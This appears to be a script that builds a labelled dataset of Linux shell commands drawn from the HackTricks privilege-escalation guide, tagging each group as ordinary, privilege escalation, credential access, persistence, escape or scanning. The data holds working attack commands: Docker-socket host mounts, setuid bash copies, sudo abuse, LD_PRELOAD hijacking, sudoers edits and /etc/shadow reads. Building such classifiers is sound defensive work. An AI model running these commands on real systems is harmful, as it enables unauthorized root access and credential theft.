S("HackTricks-wiki/hacktricks", "src/linux-hardening/privilege-escalation/README.md",
  "004fa4f37b222b5b0f0f0b1847f7d3ae1a0b7b18")
add("ordinary", None, "System Information / Defenses / Drives / Useful software / Processes / Cron (enumeration)", r'''
(cat /proc/version || uname -a ) 2>/dev/null
lsb_release -a 2>/dev/null
cat /etc/os-release 2>/dev/null
(env || set) 2>/dev/null
cat /proc/version
dmesg 2>/dev/null | grep "signature"
date 2>/dev/null
(df -h || lsblk)
lscpu
lpstat -a 2>/dev/null
((uname -r | grep "\-grsec" >/dev/null 2>&1 || grep "grsecurity" /etc/sysctl.conf >/dev/null 2>&1) && echo "Yes" || echo "Not found grsecurity")
(which paxctl-ng paxctl >/dev/null 2>&1 && echo "Yes" || echo "Not found PaX")
(grep "exec-shield" /etc/sysctl.conf || echo "Not found Execshield")
(sestatus 2>/dev/null || echo "Not found sestatus")
cat /proc/sys/kernel/randomize_va_space 2>/dev/null
ls /dev 2>/dev/null | grep -i "sd"
cat /etc/fstab 2>/dev/null | grep -v "^#" | grep -Pv "\W*\#" 2>/dev/null
which nmap aws nc ncat netcat nc.traditional wget curl ping gcc g++ make gdb base64 socat python python2 python3 python2.7 python2.6 python3.6 python3.7 perl php ruby xterm doas sudo fetch docker lxc ctr runc rkt kubectl 2>/dev/null
(dpkg --list 2>/dev/null | grep "compiler" | grep -v "decompiler\|lib" 2>/dev/null || yum list installed 'gcc*' 2>/dev/null | grep gcc 2>/dev/null; which gcc g++ 2>/dev/null || locate -r "/gcc[0-9\.-]\+$" 2>/dev/null | grep -v "/doc/")
dpkg -l
rpm -qa
ps aux
top -n 1
ps -ef | grep "authenticator"
ls -al /etc/cron* /etc/at*
cat /etc/cron* /etc/at* /etc/anacrontab /var/spool/cron/crontabs/root 2>/dev/null | grep -v "^#"
''')
add(M, "privilege_escalation", "Kernel exploits / Sudo version / Cron", r'''
searchsploit "Linux Kernel"
searchsploit sudo
sudo -V | grep "Sudo ver" | grep "1\.[01234567]\.[0-9]\+\|1\.8\.1[0-9]\*\|1\.8\.2[01234567]"
echo 'cp /bin/bash /tmp/bash; chmod +s /tmp/bash' > /home/user/overwrite.sh
/tmp/bash -p
''')
add("public_host", None, "Kernel exploits", r'''
curl https://raw.githubusercontent.com/lucyoa/kernel-exploits/master/README.md 2>/dev/null | grep "Kernels: " | cut -d ":" -f 2 | cut -d "<" -f 1 | tr -d "," | tr ' ' '\n' | grep -v "^\d\.\d$" | sort -u -r | tr '\n' ' '
''')
add(M, "credential_access", "Drives / Process memory / Credentials from process memory", r'''
grep -E "(user|username|login|pass|password|pw|credentials)[=:]" /etc/fstab /etc/mtab 2>/dev/null
gdb -p 1714
strings /tmp/mem_ftp
procdump -p 1714
./dump-memory.sh 2027
strings *.dump | grep -i password
./truffleproc.sh $$
''', note="<FTP_PROCESS_PID> placeholder replaced by 1714")
add("ordinary", None, "Services / Timers / Sockets / Network / Users (enumeration)", r'''
for i in $(seq 1 610); do ps -e --format cmd >> /tmp/monprocs.tmp; sleep 0.1; done; sort /tmp/monprocs.tmp | uniq -c | grep -v "\[" | sed '/^.\{200\}./d' | sort | grep -E -v "\s*[6-9][0-9][0-9]|\s*[0-9][0-9][0-9][0-9]"; rm /tmp/monprocs.tmp;
systemctl show-environment
netstat -a -p --unix
nc -U /tmp/socket
nc -uU /tmp/socket
socat - UNIX-CLIENT:/dev/socket
curl --max-time 2 --unix-socket /pat/to/socket/files http:/index
cat /etc/hostname /etc/hosts /etc/resolv.conf
dnsdomainname
cat /etc/inetd.conf /etc/xinetd.conf
cat /etc/networks
(ifconfig || ip a)
(arp -e || arp -a)
(route || ip n)
(timeout 1 iptables -L 2>/dev/null; cat /etc/iptables/* | grep -v "^#" | grep -Pv "\W*\#" 2>/dev/null)
lsof -i
(netstat -punta || ss --ntpu)
(netstat -punta || ss --ntpu) | grep "127.0"
id || (whoami && groups) 2>/dev/null
cat /etc/passwd | cut -d: -f1
cat /etc/passwd | grep "sh$"
awk -F: '($3 == "0") {print}' /etc/passwd
w
last | tail
lastlog
for i in $(cut -d":" -f1 /etc/passwd 2>/dev/null);do id $i;done 2>/dev/null | sort
gpg --list-keys 2>/dev/null
''')
add(M, "privilege_escalation", "Docker socket / Timers / Big UID", r'''
docker -H unix:///var/run/docker.sock run -v /:/host -it ubuntu chroot /host /bin/bash
docker -H unix:///var/run/docker.sock run -it --privileged --pid=host debian nsenter -t 1 -m -u -n -i sh
curl -XPOST -H "Content-Type: application/json" --unix-socket /var/run/docker.sock -d '{"Image":"ubuntu","Cmd":["/bin/sh"],"DetachKeys":"Ctrl-p,Ctrl-q","OpenStdin":true,"Mounts":[{"Type":"bind","Source":"/","Target":"/host_root"}]}' http://localhost/containers/create
curl -XPOST --unix-socket /var/run/docker.sock http://localhost/containers/4f2a9c/start
socat - UNIX-CONNECT:/var/run/docker.sock
systemd-run -t /bin/bash
''', note="<ImageID>/<NewContainerID> placeholders filled with ubuntu and 4f2a9c")
add(M, "persistence", "Timers (enable a timer)", r'''
sudo systemctl enable backu2.timer
''')
add(M, "credential_access", "Sniffing", r'''
timeout 1 tcpdump
''')
add(M, "network_scan", "Docker API", r'''
curl -XGET --unix-socket /var/run/docker.sock http://localhost/images/json
''')
add("escape", None, "SUDO and SUID / NOPASSWD", r'''
sudo find /etc -exec sh -i \;
sudo tcpdump -n -i lo -G1 -w /dev/null -z ./runme.sh
sudo tar c a.tar -I ./runme.sh a
''')
add(M, "privilege_escalation", "SUDO and SUID / SETENV / paths / LD_PRELOAD / tokens / sudoers / hijacking", r'''
sudo -l
find / -perm -4000 2>/dev/null
sudo PYTHONPATH=/dev/shm/ /opt/scripts/admin_tasks.sh
ln /etc/shadow /var/log/new
sudo less /var/log/new
sudo less /var/log/../../etc/shadow
sudo less /var/log/something /etc/shadow
export PATH=/tmp:$PATH
function /usr/sbin/service() { cp /bin/bash /tmp && chmod +s /tmp/bash && /tmp/bash -p; }
export -f /usr/sbin/service
sudo LD_PRELOAD=./pe.so apache2
gcc -o /tmp/libcrypt.so.1 -shared -fPIC /home/user/tools/sudo/library_path.c
sudo LD_LIBRARY_PATH=/tmp apache2
gcc -shared -o /path/to/.config/libcalc.so -fPIC /path/to/.config/libcalc.c
echo 0 | sudo tee /proc/sys/kernel/yama/ptrace_scope
bash exploit.sh
/tmp/activate_sudo_token
bash exploit_v2.sh
/tmp/sh -p
bash exploit_v3.sh
./write_sudo_token 1234 > /var/run/sudo/ts/sampleuser
echo "$(whoami) ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers
echo "$(whoami) ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers.d/README
echo "Defaults !tty_tickets" > /etc/sudoers.d/win
echo "Defaults timestamp_timeout=-1" >> /etc/sudoers.d/win
''', note="<COMMAND> placeholder filled with apache2")
add("ordinary", None, "Password policy", r'''
grep "^PASS_MAX_DAYS\|^PASS_MIN_DAYS\|^PASS_WARN_AGE\|^ENCRYPT_METHOD" /etc/login.defs
''')
add(M, "persistence", "Sudo Hijacking", r'''
echo ‘export PATH=/tmp:$PATH’ >> $HOME/.zshenv
''')
add("ordinary", None, "sudoers / strace / shared libraries (inspection)", r'''
ls -l /etc/sudoers /etc/sudoers.d/
ls -ld /etc/sudoers.d/
strace /usr/local/bin/backup 2>&1 | grep -i -E "open|access|no such file"
ldd some_suid
readelf -d payroll  | grep PATH
''')
add(M, "privilege_escalation", "RPATH / ACL / screen and tmux hijacking / Writable files", r'''
gcc -fPIC -shared -static-libgcc -Wl,--version-script=version,-Bstatic exploit.c -o libc.so.6
screen -dr 3350.foo
screen -x root/3350.foo
tmux attach -t myname
tmux attach -d -t myname
tmux -S /tmp/dev_sess attach -t 0
find / '(' -type f -or -type d ')' '(' '(' -user $USER ')' -or '(' -perm -o=w ')' ')' 2>/dev/null | grep -v '/proc/' | grep -v $HOME | sort | uniq
for g in `groups`; do find \( -type f -or -type d \) -group $g -perm -g=w 2>/dev/null | grep -v '/proc/' | grep -v $HOME; done
find / -type f -user root ! -perm -o=r 2>/dev/null
''')
add(M, "credential_access", "Passwd/Shadow / interesting files / Logs", r'''
cat /etc/shadow /etc/shadow- /etc/shadow~ /etc/gshadow /etc/gshadow- /etc/master.passwd /etc/spwd.db /etc/security/opasswd 2>/dev/null
grep -v '^[^:]*:[x\*]' /etc/passwd /etc/pwd.db /etc/master.passwd /etc/group 2>/dev/null
find / -type f \( -name "*_history" -o -name ".sudo_as_admin_successful" -o -name ".profile" -o -name "*bashrc" -o -name "httpd.conf" -o -name "*.plan" -o -name ".htpasswd" -o -name ".git-credentials" -o -name "*.rhosts" -o -name "hosts.equiv" -o -name "Dockerfile" -o -name "docker-compose.yml" \) 2>/dev/null
aureport --tty | grep -E "su |sudo " | sed -E "s,su|sudo,${C}[1;31m&${C}[0m,g"
grep -RE 'comm="su"|comm="sudo"' /var/log* 2>/dev/null
find /var /etc /bin /sbin /home /usr/local/bin /usr/local/sbin /usr/bin /usr/games /usr/sbin /root /tmp -type f \( -name "*backup*" -o -name "*\.bak" -o -name "*\.bck" -o -name "*\.bk" \) 2>/dev/null
''')
add("ordinary", None, "ACL / sessions / files (inspection)", r'''
setfacl -m u:kali:rw file.txt
setfacl -b file.txt
getfacl -t -s -R -p /bin /etc /home /opt /root /sbin /usr /tmp 2>/dev/null
screen -ls
ps aux | grep tmux
tmux -S /tmp/dev_sess ls
ls -la /tmp/dev_sess
ls -l /etc/profile /etc/profile.d/
cat /etc/passwd /etc/pwd.db /etc/master.passwd /etc/group 2>/dev/null
ls -a /tmp /var/tmp /var/backups /var/mail/ /var/spool/mail/ /root
find /home -user root 2>/dev/null
find / -type f -mmin -5 ! -path "/proc/*" ! -path "/sys/*" ! -path "/run/*" ! -path "/dev/*" ! -path "/var/lib/*" 2>/dev/null
find / -name '*.db' -o -name '*.sqlite' -o -name '*.sqlite3' 2>/dev/null
find / -type f -iname ".*" -ls 2>/dev/null
for d in `echo $PATH | tr ":" "\n"`; do find $d -name "*.sh" 2>/dev/null; done
for d in `echo $PATH | tr ":" "\n"`; do find $d -type f -executable 2>/dev/null; done
ls -alhR /var/www/ 2>/dev/null
ls -alhR /srv/www/htdocs/ 2>/dev/null
ls -alhR /usr/local/www/apache22/data/
ls -alhR /opt/lampp/htdocs/ 2>/dev/null
openssl passwd -1 -salt hacker hacker
mkpasswd -m SHA-512 hacker
''')
